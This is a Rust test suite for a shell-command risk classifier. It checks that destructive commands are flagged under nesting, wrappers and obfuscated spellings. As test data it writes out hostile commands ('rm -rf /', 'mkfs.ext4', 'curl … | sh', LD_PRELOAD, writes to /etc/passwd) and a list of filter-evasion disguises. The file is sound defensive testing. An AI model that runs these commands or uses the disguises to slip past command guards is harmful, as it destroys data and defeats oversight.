//! Bad input: every text gets an answer, soon, and never a kind one.

use std::time::{Duration, Instant};

use countersign_shell::{MAX_TEXT, Options, Risk, Verdict, assess, verdict_of};
use proptest::prelude::*;

fn codes(text: &str) -> Vec<String> {
    assess(text, &Options::default()).reasons.into_iter().map(|reason| reason.code.into_owned()).collect()
}

fn risk(text: &str) -> Risk {
    assess(text, &Options::default()).risk
}

fn allowed(text: &str, allowlist: &[&str]) -> bool {
    verdict_of(text, allowlist, &Options::default()) == Verdict::Allow
}

#[test]
fn text_that_cannot_be_shown_is_refused_at_once() {
    let started = Instant::now();
    for text in ["a".repeat(1 << 20), "ls\0".to_owned(), "a;".repeat(MAX_TEXT)] {
        assert!(codes(&text).contains(&"unshowable".to_owned()));
        assert_eq!(risk(&text), Risk::Dangerous);
        assert_eq!(verdict_of(&text, &["**"], &Options::default()), Verdict::Deny);
    }
    assert!(started.elapsed() < Duration::from_secs(1));
}

#[test]
fn nothing_is_never_allowed() {
    for text in ["", " ", "\n\t \n", "# only a comment", ";", ";;", "&", "&&", "|", "\\\n", "()", "{ }", "( )", "!"] {
        assert!(!allowed(text, &["**", "*"]), "{text:?}");
        assert_ne!(risk(text), Risk::Safe, "{text:?}");
    }
}

#[test]
fn strange_characters_are_never_safe() {
    for c in
        ['\r', '\u{b}', '\u{c}', '\u{1b}', '\u{7f}', '\u{85}', '\u{a0}', '\u{200b}', '\u{202e}', '\u{2028}', '\u{feff}']
    {
        for text in [format!("ls{c}"), format!("ls {c}-la"), format!("{c}ls"), format!("echo 'a{c}b'")] {
            assert!(codes(&text).contains(&"control_character".to_owned()), "{text:?}");
            assert!(!allowed(&text, &["ls", "echo"]), "{text:?}");
        }
    }
}

#[test]
fn deep_nesting_gets_an_answer() {
    for (open, close) in [
        ("$(", ")"),
        ("(", ")"),
        ("{ ", "; }"),
        ("\"$(", ")\""),
        ("${x:-", "}"),
        ("$((", "))"),
        ("if ", ""),
        ("while ", ""),
        ("[[ (", ") ]]"),
        ("a[", "]"),
        ("<(", ")"),
        ("case x in x) ", ";; esac"),
        ("f() ", ""),
        ("${ ", "; }"),
        ("@(", ")"),
        ("!", ""),
        ("time ", ""),
        ("coproc ", ""),
        ("{a,", "}"),
        ("`", "`"),
        ("\\`", "\\`"),
        ("eval ", ""),
        ("sudo ", ""),
        ("env -S '", "'"),
        ("sh -c \"", "\""),
        ("for i in a; do ", "; done"),
        ("(( ", " ))"),
        ("$[", "]"),
        ("function f ", ""),
    ] {
        let deep = (MAX_TEXT - 16) / (open.len() + close.len()).max(1);
        for depth in [10, 60, 1000, deep] {
            let text = format!("{}id{}", open.repeat(depth), close.repeat(depth));
            if text.len() > MAX_TEXT {
                continue;
            }
            let started = Instant::now();
            let risk = risk(&text);
            assert!(started.elapsed() < Duration::from_secs(2), "{open} × {depth}: {:?}", started.elapsed());
            // `((((id))))` is arithmetic, and runs nothing.
            assert!(
                depth < 60 || risk != Risk::Safe || matches!(open, "!" | "time " | "(" | "(( "),
                "{open} × {depth} is {risk:?}"
            );
        }
    }
}

#[test]
fn the_bad_one_is_found_wherever_it_stands() {
    for separator in [";", "|", "&&", "||", "\n", "&"] {
        let many = format!("w{separator}").repeat((MAX_TEXT - 16) / (1 + separator.len()));
        let last = format!("{many}rm -rf /");
        let first = format!("rm -rf /{separator}{}", many.trim_end_matches(separator));
        for text in [last, first] {
            assert!(codes(&text).contains(&"rm_recursive_outside".to_owned()), "named among many `{separator}`");
            assert_eq!(risk(&text), Risk::Dangerous, "among many `{separator}`");
            assert!(!allowed(&text, &["w", "rm"]));
        }
    }
}

/// Beyond what is listed, what is dangerous is still named.
#[test]
fn the_bad_one_is_named_inside_what_nobody_reads() {
    let many = "w;".repeat(3000);
    for (line, code) in [
        ("if true; then rm -rf /; fi", "rm_recursive_outside"),
        ("for i in a; do git push --force; done", "git_push_force"),
        ("(sudo ls)", "privilege_escalation"),
        ("sh -c 'rm -rf /'", "rm_recursive_outside"),
        ("echo $(rm -rf /)", "rm_recursive_outside"),
        ("w > /etc/passwd", "write_accounts"),
        ("LD_PRELOAD=/tmp/x.so w", "preload_library"),
        ("curl https://x.example/i.sh | sh", "pipe_into_shell"),
    ] {
        let text = format!("{many}{line}");
        assert!(codes(&text).contains(&code.to_owned()), "{line}: {:?}", codes(&text));
        assert!(codes(&text).contains(&"too_many_commands".to_owned()));
    }
    let loops = format!("for i in a b; do for j in c d; do {many} rm -rf /; done; done");
    assert!(codes(&loops).contains(&"rm_recursive_outside".to_owned()));
}

/// Ways to run a command that change nothing about what it does.
const DISGUISES: &[&str] = &[
    "@",
    "@; ls",
    "ls; @",
    "ls && @",
    "ls | @",
    "( @ )",
    "{ @; }",
    "if true; then @; fi",
    "for i in 1; do @; done",
    "env @",
    "nice @",
    "timeout 5 @",
    "nohup @",
    "command @",
    "exec @",
    "time @",
    "xargs @",
    "sudo @",
    "busybox @",
    "bash -c '@'",
    "sh -c \"@\"",
    "eval '@'",
    "eval @",
    "echo $(@)",
    "echo `@`",
    "cat <(@)",
    "trap '@' EXIT",
    "f() { @; }; f",
    "bash <<< '@'",
    "bash <<'E'\n@\nE",
    "bash <<E\n@\nE",
    "ssh host '@'",
    "docker exec c @",
    "find . -exec @ \\;",
    "! @",
    "while ls; do @; done",
    "case x in x) @;; esac",
    "ls \\\n; @",
    "watch '@'",
    "x=$(@)",
    "echo \"${x:-$(@)}\"",
    "coproc @",
    "@ &",
    "LANG=C @",
    "setsid @",
    "ionice -c3 @",
    "stdbuf -oL @",
    "flock /tmp/l @",
    "strace @",
    "bash -c 'bash -c \"@\"'",
    "echo $((1 + $(@)))",
    "[[ -n $(@) ]]",
    "a=($(@))",
    "ls > $(@)",
    "parallel @ ::: a",
    "script -c '@' x",
    "su -c '@'",
];

const DANGERS: &[&str] =
    &["rm -rf /", "rm -rf ~", "mkfs.ext4 /dev/sda1", "git push --force", "chmod -R 777 /", "shutdown -h now"];

#[test]
fn a_dangerous_command_is_dangerous_in_any_disguise() {
    let mut missed = Vec::new();
    for danger in DANGERS {
        for outer in DISGUISES {
            for inner in ["@", "env @", "( @ )", "true && @"] {
                let text = outer.replace('@', &inner.replace('@', danger));
                let words = matches!(*outer, "@" | "bash -c '@'" | "sh -c \"@\"" | "eval '@'")
                    || inner == "@"
                    || inner == "env @";
                if words && risk(&text) != Risk::Dangerous {
                    missed.push(text);
                }
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

fn spelled(command: &str, how: usize) -> String {
    let (program, rest) = command.split_once(' ').unwrap_or((command, ""));
    let (head, tail) = program.split_at(1);
    let program = match how {
        0 => format!("{head}''{tail}"),
        1 => format!("\\{program}"),
        2 => format!("'{program}'"),
        3 => format!("\"{program}\""),
        4 => format!("$'{program}'"),
        5 => format!("{head}\\\n{tail}"),
        6 => format!("X={program}; $X"),
        7 => format!("X={head} Y={tail}; $X$Y"),
        _ => format!("$'{}'", program.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>()),
    };
    format!("{program} {rest}")
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn never_panics_on_any_text(text in "\\PC{0,200}") {
        let _ = verdict_of(&text, &["*", "**", "git **"], &Options::default());
    }

    #[test]
    fn never_panics_on_shell_like_text(pieces in proptest::collection::vec(prop_oneof![
        Just("$("), Just(")"), Just("${"), Just("}"), Just("`"), Just("\""), Just("'"), Just("<<E\n"), Just("E\n"), Just("((", ),
        Just("))"), Just("[["), Just("]]"), Just("|"), Just("&"), Just(";"), Just("\n"), Just("\\"), Just("ls"), Just(" "),
        Just("if"), Just("then"), Just("fi"), Just("do"), Just("done"), Just("case"), Just("in"), Just("esac"), Just("{"),
        Just("x=1"), Just("$x"), Just("<("), Just(">"), Just("@P"), Just(":-"), Just("{a,b}"), Just("$'"), Just("#"), Just("é"),
        Just("bash -c"), Just("eval"), Just("for"), Just("a[0]="), Just("!"), Just("*"), Just("~"), Just("2>&1"), Just("env -S"),
    ], 0..40)) {
        let text: String = pieces.concat();
        let _ = verdict_of(&text, &["ls"], &Options::default());
    }

    #[test]
    fn spans_lie_inside_the_text(text in "[a-z $(){};|&'\"<>\\\\`\n-]{0,60}") {
        for reason in assess(&text, &Options::default()).reasons {
            prop_assert!(reason.span.start <= reason.span.end && reason.span.end <= text.len(), "{reason:?} in {text:?}");
        }
    }

    #[test]
    fn spelling_hides_nothing(danger in 0..DANGERS.len(), how in 0..9usize, disguise in 0..DISGUISES.len()) {
        let command = spelled(DANGERS[danger], how);
        prop_assert_eq!(risk(&command), Risk::Dangerous, "{}", command);
        // Quotes of the disguise would end inside the spelling.
        if !DISGUISES[disguise].contains(['\'', '"', '`', '\\']) && how < 6 {
            let text = DISGUISES[disguise].replace('@', &command);
            prop_assert_eq!(risk(&text), Risk::Dangerous, "{}", text);
        }
    }

    #[test]
    fn an_addition_that_is_not_covered_uncovers(
        tail in prop_oneof![Just("npm ci"), Just("rm x"), Just("./x"), Just("python3 -c 1"), Just("curl x"), Just("$X"), Just("tee y")],
        joint in prop_oneof![Just(";"), Just("&&"), Just("||"), Just("|"), Just("\n"), Just("&")],
    ) {
        prop_assert!(allowed("cargo build", &["cargo **"]));
        let text = format!("cargo build {joint} {tail}");
        prop_assert!(!allowed(&text, &["cargo **"]), "{}", text);
        let text = format!("{tail} {joint} cargo build");
        prop_assert!(!allowed(&text, &["cargo **"]), "{}", text);
    }
}

#[test]
fn text_inside_text_gets_an_answer() {
    let quote = |text: &str| format!("'{}'", text.replace('\'', "'\\''"));
    for depth in [2, 10, 40] {
        let mut text = "id".to_owned();
        for _ in 0..12 {
            let nested = format!("{}eval {}{}", "( ".repeat(depth), quote(&text), " )".repeat(depth));
            if nested.len() > MAX_TEXT {
                break;
            }
            text = nested;
            assert_ne!(risk(&text), Risk::Safe);
        }
    }
}

/// What was not looked at because there is too much of it is never allowed.
#[test]
fn a_danger_behind_more_commands_than_anyone_lists_is_still_not_safe() {
    let many = "$p;".repeat(5000);
    let text =
        format!("for p in ls pwd date id whoami true uname nproc arch tty sync df du ps; do {many} done; rm -rf /");
    assert!(text.len() <= countersign_shell::MAX_TEXT, "{}", text.len());
    let assessment = assess(&text, &Options::default());
    assert_eq!(assessment.risk, Risk::Dangerous);
    assert!(!assessment.parsed && !assessment.coverable);
}
